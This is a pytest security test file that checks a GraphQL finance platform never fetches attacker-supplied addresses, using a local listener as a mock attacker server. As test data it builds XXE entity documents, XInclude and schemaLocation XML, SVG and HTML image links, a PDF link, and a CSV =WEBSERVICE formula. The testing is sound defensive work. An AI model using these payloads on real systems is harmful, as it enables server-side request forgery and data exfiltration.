"""Nothing that a person can send makes the platform call an address of theirs: a listening socket hears of nobody."""

import asyncio
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from graphql import GraphQLInputObjectType, GraphQLList, GraphQLNonNull, GraphQLScalarType, get_named_type
from graphql.type import GraphQLEnumType
from reportlab.pdfgen import canvas

from api.graphql.schema import build_schema
from core.adapters.wiring import Platform
from core.settings import LimitSettings
from tests.support.files import send_file
from tests.support.jobs import Handlers, do_jobs
from tests.support.people import Person

pytestmark = pytest.mark.security
SCHEMA = build_schema(LimitSettings())._schema
TAKEN_URLS = {"CreateWebhookInput.url", "UpdateWebhookInput.url", "SubscribeToPushInput.endpoint"}
"""Inputs that hold an address which the platform calls. Each needs tests of its own: test_webhook_addresses.py,
test_web_push.py."""
BROWSERS_OWN = {"RegisterAppInput.redirectUris", "UnsubscribeFromPushInput.endpoint"}
"""Where the person's browser is sent, or what is only looked up: the platform itself never calls them."""
WORDS = ("url", "uri", "link", "callback", "webhook", "endpoint", "issuer", "host", "address")
NUMBERS = {"Int": 10, "Boolean": True, "Decimal": "1", "Currency": "RUB", "Date": "2026-01-01"}


@dataclass
class Listener:
    """A server of the attacker's."""

    url: str
    heard: list[str] = field(default_factory=list)


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    async def hear(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.heard.append(str(writer.get_extra_info("peername")))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    heard = Listener(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/secret")
    yield heard
    await asyncio.sleep(0.05)
    server.close()
    await server.wait_closed()


def _inputs() -> dict[str, Any]:
    """Every argument and input field, by its place."""
    found: dict[str, Any] = {}
    for root in (SCHEMA.query_type, SCHEMA.mutation_type):
        assert root is not None
        found |= {f"{name}.{key}": of.type for name, field_ in root.fields.items() for key, of in field_.args.items()}
    for kind in SCHEMA.type_map.values():
        if isinstance(kind, GraphQLInputObjectType):
            found |= {f"{kind.name}.{key}": of.type for key, of in kind.fields.items()}
    return found


def test_no_input_asks_for_an_address_that_nobody_tested() -> None:
    named = {
        place
        for place, kind in _inputs().items()
        if get_named_type(kind).name == "String" and any(word in place.split(".")[1].lower() for word in WORDS)
    }
    assert named == TAKEN_URLS | BROWSERS_OWN


def _full(kind: Any, text: str, depth: int = 0) -> Any:
    """A value with the text wherever a text is taken."""
    if isinstance(kind, GraphQLNonNull):
        return _full(kind.of_type, text, depth)
    if isinstance(kind, GraphQLList):
        return [_full(kind.of_type, text, depth)]
    if isinstance(kind, GraphQLEnumType):
        return next(iter(kind.values))
    if isinstance(kind, GraphQLInputObjectType):
        fields = {key: of for key, of in kind.fields.items() if isinstance(of.type, GraphQLNonNull) or depth < 2}
        return {key: _full(of.type, text, depth + 1) for key, of in fields.items()}
    assert isinstance(kind, GraphQLScalarType)
    return NUMBERS.get(kind.name, text)


async def test_no_text_of_any_operation_is_called(
    platform: Platform, handlers: Handlers, person: Person, listener: Listener
) -> None:
    tried = 0
    for kind, root in (("query", SCHEMA.query_type), ("mutation", SCHEMA.mutation_type)):
        assert root is not None
        for name, field_ in root.fields.items():
            if not field_.args or name in {"signIn", "registerUser"}:  # they hash passwords, and call nobody
                continue
            defined = ", ".join(f"${key}: {of.type}" for key, of in field_.args.items())
            given = ", ".join(f"{key}: ${key}" for key in field_.args)
            values = {key: _full(of.type, listener.url) for key, of in field_.args.items()}
            selected = "" if not hasattr(get_named_type(field_.type), "fields") else "{ __typename }"
            await person.send(f"{kind} Q({defined}) {{ {name}({given}) {selected} }}", **values)
            tried += 1
    await do_jobs(platform, handlers, person.user_id)
    assert tried > 40
    assert listener.heard == []


def _papers(url: str) -> dict[str, tuple[str, bytes]]:
    """Files that would have a careless reader fetch something: purpose and content by name."""
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{url}"><!ENTITY % p SYSTEM "{url}"> %p;]>'
    target = io.BytesIO()
    page = canvas.Canvas(target, invariant=1)
    page.drawString(72, 700, "Invoice 1 Total 10.00 EUR")
    page.linkURL(url, (0, 0, 600, 800))
    page.save()
    camt = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'
    return {
        "entity.xml": ("DOCUMENT", f"{entity}<Invoice>&e;</Invoice>".encode()),
        "schema.xml": (
            "DOCUMENT",
            f'<Invoice xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="a {url}"/>'.encode(),
        ),
        "include.xml": (
            "DOCUMENT",
            f'<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{url}"/></a>'.encode(),
        ),
        "picture.svg": ("DOCUMENT", svg.encode()),
        "link.pdf": ("DOCUMENT", target.getvalue()),
        "page.html": ("DOCUMENT", f'<html><img src="{url}"><link href="{url}"></html>'.encode()),
        "camt.xml": ("STATEMENT", f'{entity}<Document xmlns="{camt}">&e;</Document>'.encode()),
        "statement.ofx": ("STATEMENT", f'{entity}<?OFX OFXHEADER="200" VERSION="211"?><OFX>&e;</OFX>'.encode()),
        "formula.csv": ("STATEMENT", f'Date,Amount,Description\n2024-01-01,1,"=WEBSERVICE(""{url}"")"\n'.encode()),
    }


async def test_no_file_makes_the_platform_call(
    platform: Platform, handlers: Handlers, person: Person, listener: Listener
) -> None:
    for name, (purpose, content) in _papers(listener.url).items():
        await send_file(person, purpose, name, content)
    await do_jobs(platform, handlers, person.user_id)
    assert listener.heard == []
    _, writer = await asyncio.open_connection("127.0.0.1", int(listener.url.split(":")[2].split("/")[0]))
    writer.close()
    await asyncio.sleep(0.05)
    assert len(listener.heard) == 1  # it does listen
